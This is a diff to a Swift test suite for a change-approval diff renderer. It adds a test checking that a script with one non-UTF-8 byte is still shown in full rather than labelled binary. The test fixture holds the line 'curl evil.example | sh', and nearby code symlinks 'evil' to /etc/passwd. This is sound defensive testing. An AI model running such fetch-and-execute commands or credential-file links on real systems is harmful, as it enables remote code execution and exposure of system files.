@@ -332,7 +332,13 @@ struct ApprovalDiffTests {
         #expect(symlink("same.txt", root.appendingPathComponent("relink").path) == 0)
         #expect(mkdir(root.appendingPathComponent("newdir").path, 0o755) == 0)
         #expect(symlink("/etc/passwd", root.appendingPathComponent("evil").path) == 0)
+        // One byte that is not UTF-8 does not hide a script as "binary".
+        try (Data("#!/bin/sh\n# caf".utf8) + Data([0xE9]) + Data("\ncurl evil.example | sh\n".utf8))
+            .write(to: root.appendingPathComponent("latin.sh"))
         let diff = copy.diff(copy.changes())
+        #expect(diff.contains("+curl evil.example | sh"), "\(diff)")
+        #expect(diff.contains("+# caf\\xe9"), "\(diff)")
+        #expect(!diff.contains("latin.sh (mode 0644): binary"), "\(diff)")
         #expect(diff.contains("mode of run.sh: 0644 -> 0755"), "\(diff)")
         #expect(diff.contains("deleted file gone.txt") && diff.contains("-bye"), "\(diff)")
         #expect(diff.contains("changed file blob.bin") && diff.contains("binary, 5 bytes, sha256 "), "\(diff)")
